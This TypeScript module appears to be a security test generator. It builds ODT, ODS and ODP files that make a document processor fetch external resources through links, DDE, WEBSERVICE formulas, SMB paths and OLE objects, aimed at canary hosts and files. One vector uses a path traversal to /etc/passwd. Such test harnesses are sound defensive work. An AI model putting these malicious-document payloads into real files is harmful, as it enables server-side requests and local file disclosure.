// Ways in which an OpenDocument file reaches for something outside itself.
import { openDocument } from '../../documents/office/open-document.ts';
import type { Canary, Vector } from './canary.ts';

const LINK = 'xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"';
const EXTENSIONS = { text: 'odt', spreadsheet: 'ods', presentation: 'odp' } as const;

export function openVectors({ http, picture, text, document, sheet }: Canary): readonly Vector[] {
  const vector = (
    kind: keyof typeof EXTENSIONS,
    name: string,
    options: Parameters<typeof openDocument>[0],
  ): Vector => ({
    name: `${EXTENSIONS[kind]}: ${name}`,
    extension: EXTENSIONS[kind],
    bytes: openDocument({ kind, ...options }),
  });
  const odt = (name: string, body: string, more: Parameters<typeof openDocument>[0] = {}) =>
    vector('text', name, { body: `<text:p text:style-name="P1">${name}</text:p>${body}`, ...more });
  const frame = (inside: string) =>
    `<text:p><draw:frame svg:width="5cm" svg:height="5cm" text:anchor-type="paragraph">${inside}</draw:frame></text:p>`;
  const image = (href: string) => `<draw:image xlink:href="${href}" ${LINK}/>`;
  const both = <T>(make: (name: string, target: string) => T, web: string, file: string): readonly T[] => [
    make('over http', `${http}/${web}`),
    make('in a file', file),
  ];
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200"><image xlink:href="${http}/odf-svg.png" width="100" height="100"/><image xlink:href="${picture}" y="100" width="100" height="100"/></svg>`;
  return [
    ...both((name, to) => odt(`picture ${name}`, frame(image(to))), 'odt.png', picture),
    odt('picture by an expanded variable', frame(image(`vnd.sun.star.expand:${http}/$PLATEN_CANARY.png`))),
    odt(
      'picture in the user folder',
      frame(image('vnd.sun.star.expand:$BRAND_BASE_DIR/../../../../../../etc/passwd')),
    ),
    odt('picture on a share', frame(image(picture.replace('file:///', 'smb://127.0.0.1/')))),
    ...both(
      (name, to) =>
        odt(
          `section ${name}`,
          `<text:section text:name="s"><text:section-source xlink:href="${to}" ${LINK}/><text:p>x</text:p></text:section>`,
        ),
      'section.odt',
      document,
    ),
    odt(
      'section of plain text',
      `<text:section text:name="s"><text:section-source xlink:href="${text}" text:filter-name="Text" ${LINK}/><text:p>x</text:p></text:section>`,
    ),
    odt(
      'section by DDE',
      `<text:section text:name="s"><office:dde-source office:dde-application="soffice" office:dde-topic="${document.slice(7)}" office:dde-item="p" office:automatic-update="true"/><text:p>x</text:p></text:section>`,
    ),
    ...both(
      (name, to) => odt(`object ${name}`, frame(`<draw:object xlink:href="${to}" ${LINK}/>`)),
      'object.odt',
      document,
    ),
    odt('OLE object in a file', frame(`<draw:object-ole xlink:href="${sheet}" ${LINK}/>`)),
    ...both(
      (name, to) => odt(`floating frame ${name}`, frame(`<draw:floating-frame xlink:href="${to}" ${LINK}/>`)),
      'frame.html',
      text,
    ),
    ...both(
      (name, to) =>
        odt(
          `plugin ${name}`,
          frame(`<draw:plugin xlink:href="${to}" draw:mime-type="application/vnd.sun.star.media" ${LINK}/>`),
        ),
      'plugin.mp4',
      text,
    ),
    odt(
      'applet',
      frame(`<draw:applet draw:code="x.class" xlink:href="${http}/applet/" draw:may-script="true" ${LINK}/>`),
    ),
    ...both(
      (name, to) =>
        odt(`background ${name}`, '<text:p text:style-name="B1">x</text:p>', {
          styles: `<style:style style:name="B1" style:family="paragraph"><style:paragraph-properties><style:background-image xlink:href="${to}" ${LINK}/></style:paragraph-properties></style:style>`,
        }),
      'background.png',
      picture,
    ),
    ...both(
      (name, to) =>
        odt(
          `bullet ${name}`,
          '<text:list text:style-name="L"><text:list-item><text:p>x</text:p></text:list-item></text:list>',
          {
            styles: `<text:list-style style:name="L"><text:list-level-style-image text:level="1" xlink:href="${to}" ${LINK}><style:list-level-properties fo:width="2cm" fo:height="2cm"/></text:list-level-style-image></text:list-style>`,
          },
        ),
      'bullet.png',
      picture,
    ),
    odt('embedded SVG with links', frame(image('Pictures/a.svg')), {
      parts: [{ name: 'Pictures/a.svg', data: svg, type: 'image/svg+xml' }],
    }),
    odt(
      'database field',
      '<text:p><text:database-display text:table-name="t" text:table-type="table" text:column-name="c" text:database-name="x"><form:connection-resource xlink:href="jdbc:hsqldb:file:/tmp/x"/>x</text:database-display></text:p>',
    ),
    odt(
      'form that loads a picture',
      '<office:forms form:automatic-focus="true"><form:form form:name="f" xlink:href="x" form:target-frame=""><form:image-frame form:name="i" form:id="c1" form:image-data="' +
        `${http}/form.png` +
        '"/></form:form></office:forms>' +
        '<text:p><draw:control text:anchor-type="paragraph" svg:width="5cm" svg:height="5cm" draw:control="c1"/></text:p>',
    ),
    odt(
      'user index by link',
      `<text:p><text:a xlink:href="${http}/hyperlink" xlink:type="simple">x</text:a></text:p>`,
    ),
    odt('fonts by link', '<text:p text:style-name="P1">x</text:p>', {
      fontXml: `<style:font-face style:name="F2" svg:font-family="C"><svg:font-face-src><svg:font-face-uri xlink:href="${http}/font.ttf"/></svg:font-face-src></style:font-face>`,
    }),
    vector('text', 'template in the meta data', {
      parts: [
        {
          name: 'meta.xml',
          type: 'text/xml',
          data: `<office:document-meta xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><office:meta><meta:template xlink:href="${document}" xlink:type="simple"/><meta:auto-reload xlink:href="${http}/reload" meta:delay="PT0S"/></office:meta></office:document-meta>`,
        },
      ],
    }),

    ...both(
      (name, to) =>
        vector('spreadsheet', `sheet ${name}`, {
          body: `<table:table table:name="S"><table:table-source xlink:href="${to}" table:mode="copy-all" table:table-name="Sheet1" table:refresh-delay="PT0S" ${LINK}/><table:table-row><table:table-cell/></table:table-row></table:table>`,
        }),
      'sheet.ods',
      sheet,
    ),
    ...both(
      (name, to) =>
        vector('spreadsheet', `range ${name}`, {
          body: `<table:table table:name="S"><table:table-row><table:table-cell><table:cell-range-source xlink:href="${to}" table:name="A1" table:filter-name="Text - txt - csv (StarCalc)" table:last-column-spanned="3" table:last-row-spanned="3" ${LINK}/></table:table-cell></table:table-row></table:table>`,
        }),
      'range.csv',
      text,
    ),
    ...[
      `WEBSERVICE("${http}/ods")`,
      `WEBSERVICE("${text}")`,
      `'${sheet}'#$Sheet1.A1`,
      `DDE("soffice";"${sheet.slice(7)}";"Sheet1.A1")`,
    ].map((formula) =>
      vector('spreadsheet', `formula ${formula.slice(0, 16)}`, {
        body: `<table:table table:name="S"><table:table-row><table:table-cell table:formula="of:=${formula.replace(/"/g, '&quot;')}"/></table:table-row></table:table>`,
      }),
    ),
    vector('spreadsheet', 'DDE link', {
      body: `<table:table table:name="S"><table:table-row><table:table-cell/></table:table-row></table:table><table:dde-links><table:dde-link><office:dde-source office:dde-application="soffice" office:dde-topic="${sheet.slice(7)}" office:dde-item="A1" office:automatic-update="true"/></table:dde-link></table:dde-links>`,
    }),
    vector('spreadsheet', 'database range', {
      body: '<table:table table:name="S"><table:table-row><table:table-cell/></table:table-row></table:table><table:database-ranges><table:database-range table:name="d" table:target-range-address="S.A1:S.B3"><table:database-source-sql table:database-name="x" table:sql-statement="select * from t"/></table:database-range></table:database-ranges>',
    }),

    ...both(
      (name, to) =>
        vector('presentation', `picture ${name}`, {
          body: page(
            `<draw:frame svg:width="5cm" svg:height="5cm" svg:x="2cm" svg:y="2cm">${image(to)}</draw:frame>`,
          ),
        }),
      'odp.png',
      picture,
    ),
    ...both(
      (name, to) =>
        vector('presentation', `sound ${name}`, {
          body: page(
            `<draw:rect svg:width="5cm" svg:height="5cm" svg:x="2cm" svg:y="2cm"><office:event-listeners><presentation:event-listener script:event-name="dom:click" presentation:action="sound"><presentation:sound xlink:href="${to}" ${LINK}/></presentation:event-listener></office:event-listeners></draw:rect>`,
          ),
        }),
      'sound.wav',
      text,
    ),
    vector('presentation', 'video', {
      body: page(
        `<draw:frame svg:width="5cm" svg:height="5cm"><draw:plugin xlink:href="${http}/video.mp4" draw:mime-type="application/vnd.sun.star.media" ${LINK}/></draw:frame>`,
      ),
    }),
    ...both(
      (name, to) =>
        vector('presentation', `object ${name}`, {
          body: page(
            `<draw:frame svg:width="5cm" svg:height="5cm"><draw:object xlink:href="${to}" ${LINK}/></draw:frame>`,
          ),
        }),
      'object.odp',
      document,
    ),
  ];
}

const page = (inside: string): string =>
  `<draw:page draw:name="p" draw:master-page-name="Standard">${inside}</draw:page>`;
